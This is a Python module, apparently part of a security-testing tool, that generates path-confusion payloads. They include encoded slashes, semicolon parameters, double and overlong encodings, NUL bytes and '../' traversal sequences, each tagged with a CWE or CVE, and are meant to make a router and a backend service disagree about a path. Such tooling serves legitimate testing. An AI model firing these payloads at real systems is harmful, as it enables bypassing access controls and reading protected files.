"""Spell a path so that a service reads it as the same path, and a router as another one."""

import re
from collections.abc import Iterator, Sequence

Spelling = tuple[str, str, bytes]  # the name, where it was seen, the target

# Suffixes of a path that some services remove.
_ENDINGS = (
    ("trailing-dot", "CWE-42", b"."),
    ("trailing-space", "CWE-46", b"%20"),
    ("trailing-tab", "CWE-46", b"%09"),
    ("trailing-nul", "CWE-158", b"%00"),
    ("trailing-line-end", "CWE-93", b"%0a"),
    ("trailing-parameter", "CVE-2020-1957", b";"),
    ("trailing-parameter", "CVE-2020-1957", b";x=1"),
    ("trailing-parameter", "CVE-2020-1957", b"%3b"),
    ("trailing-slash", "CWE-49", b"%2f"),
    ("trailing-slash", "CWE-52", b"//"),
    ("trailing-backslash", "CWE-54", b"%5c"),
    ("trailing-backslash", "CWE-54", b"\\"),
    ("trailing-dot-segment", "CVE-2019-9901", b"/."),
    ("trailing-dot-segment", "CVE-2019-9901", b"/x/.."),
    ("trailing-dot-segment", "CVE-2019-9901", b"/x%2f.."),
    ("trailing-dot-segment", "CVE-2021-43557", b"/..;/"),
    ("fragment", "CVE-2021-32779", b"#x"),
    ("fragment", "CWE-177", b"%23"),
    ("encoded-query", "CVE-2020-8595", b"%3fx=1"),
    ("suffix", "CWE-436", b".json"),
    ("suffix", "CWE-436", b".css"),
)

# One step up from a folder, in the forms that some software accepted.
_STEPS_UP = (
    ("dot-segments", "CVE-2019-9901", b"../"),
    ("dot-segments", "CVE-2019-9901", b"%2e%2e/"),
    ("dot-segments", "CVE-2019-9901", b".%2e/"),
    ("encoded-slash", "CVE-2021-29492", b"..%2f"),
    ("encoded-slash", "CVE-2021-29492", b"%2e%2e%2f"),
    ("backslash", "CVE-2021-29492", b"..\\"),
    ("backslash", "CVE-2021-29492", b"..%5c"),
    ("semicolon", "CVE-2020-1957", b"..;/"),
    ("semicolon", "CVE-2020-1957", b"..;x=1/"),
    ("semicolon", "CVE-2020-1957", b"..%3b/"),
    ("double-encoding", "CWE-174", b"%252e%252e/"),
    ("double-encoding", "CWE-174", b"..%252f"),
    ("double-encoding", "CWE-174", b"%25%32%65%25%32%65/"),
    ("overlong-encoding", "CVE-2008-2938", b"%c0%ae%c0%ae/"),
    ("overlong-encoding", "CVE-2008-2938", b"..%c0%af"),
    ("nul", "CWE-158", b"..%00/"),
    ("double-slash", "CWE-51", b"..//"),
    ("tab", "CWE-48", b"..%09/"),
)

_LETTER = re.compile(rb"[a-z]", re.IGNORECASE)


def spell(path: bytes, literals: Sequence[int]) -> Iterator[Spelling]:
    """Yield spellings of *path*; *literals* are the positions of its literal segments.

    Only literal segments are respelled: variables may well differ by case.
    """
    yield from _with_other_ending(path)
    yield from _with_other_slashes(path)
    parts = path[1:].split(b"/")
    for place in literals:
        for name, source, text in _spell_word(parts[place]):
            if text != parts[place]:
                changed = [*parts[:place], text, *parts[place + 1 :]]
                yield name, source, b"/" + b"/".join(changed)
    capitals = [part.upper() if place in literals else part for place, part in enumerate(parts)]
    if capitals != parts:
        yield "other-case", "CWE-178", b"/" + b"/".join(capitals)


def _with_other_ending(path: bytes) -> Iterator[Spelling]:
    if path.endswith(b"/"):
        if path != b"/":
            yield "trailing-slash", "CWE-49", path[:-1]
    else:
        yield "trailing-slash", "CWE-49", path + b"/"
    for name, source, ending in _ENDINGS:
        yield name, source, path + ending


def _with_other_slashes(path: bytes) -> Iterator[Spelling]:
    yield "double-slash", "CWE-50", b"/" + path
    yield "double-slash", "CWE-50", b"//some.example" + path
    yield "dot-segments", "CVE-2019-9901", b"/." + path
    yield "dot-segments", "CVE-2019-9901", b"/x/.." + path
    yield "dot-segments", "CVE-2019-9901", b"/%2e" + path
    yield "dot-segments", "CVE-2019-9901", b"/%2e%2e" + path
    yield "semicolon", "CVE-2020-1957", b"/;" + path
    yield "semicolon", "CVE-2020-1957", b"/;x=1" + path
    yield "encoded-slash", "CVE-2021-29492", b"/%2f" + path[1:]
    yield "backslash", "CVE-2021-29492", b"\\" + path[1:]
    yield "backslash", "CVE-2021-29492", b"/\\" + path[1:]
    yield "no-slash", "RFC 9112 §3.2.1", path[1:] or b"x"
    place = path.rfind(b"/")
    if place <= 0:
        return
    before, after = path[:place], path[place + 1 :]
    for name, source, between in (
        ("encoded-slash", "CVE-2021-29492", b"%2f"),
        ("encoded-slash", "CVE-2021-29492", b"%2F"),
        ("double-encoding", "CWE-174", b"%252f"),
        ("backslash", "CVE-2021-29492", b"%5c"),
        ("backslash", "CVE-2021-29492", b"\\"),
        ("double-slash", "CWE-51", b"//"),
        ("semicolon", "CVE-2020-1957", b";/"),
        ("semicolon", "CVE-2020-1957", b";x=1/"),
        ("dot-segments", "CVE-2019-9901", b"/./"),
        ("nul", "CWE-158", b"%00/"),
    ):
        yield name, source, before + between + after


def _spell_word(word: bytes) -> Iterator[Spelling]:
    yield "other-case", "CWE-178", word[:1].upper() + word[1:]
    found = _LETTER.search(word)
    if found is None:
        return
    before, letter, after = word[: found.start()], found[0], word[found.end() :]
    code = b"%%%02x" % letter[0]
    yield "encoded-letter", "CWE-177", before + code + after
    yield "double-encoding", "CWE-174", before + b"%25" + code[1:] + after
    high, low = 0xC0 | letter[0] >> 6, 0x80 | letter[0] & 0x3F
    yield "overlong-encoding", "CVE-2008-2938", before + b"%%%02x%%%02x" % (high, low) + after


def climb(folder: bytes, path: bytes) -> Iterator[Spelling]:
    """Yield ways to get from *folder*, which ends with a slash, to *path*."""
    depth = folder.count(b"/") - 1
    for name, source, step in _STEPS_UP:
        if depth:  # otherwise it would be the path itself
            yield name, source, folder + step * depth + path[1:]
        yield name, source, folder + b"x/" + step * (depth + 1) + path[1:]
    bare = folder.removesuffix(b"/")
    yield "fragment", "CVE-2021-32779", bare + b"#/" + b"../" * depth + path[1:]
    yield "semicolon", "CVE-2020-1957", bare + b";/" + b"../" * depth + path[1:]
    yield "nul", "CWE-158", bare + b"%00/" + b"../" * depth + path[1:]
    yield "absolute-form", "RFC 9112 §3.2.2", folder + b"http://some.example" + path
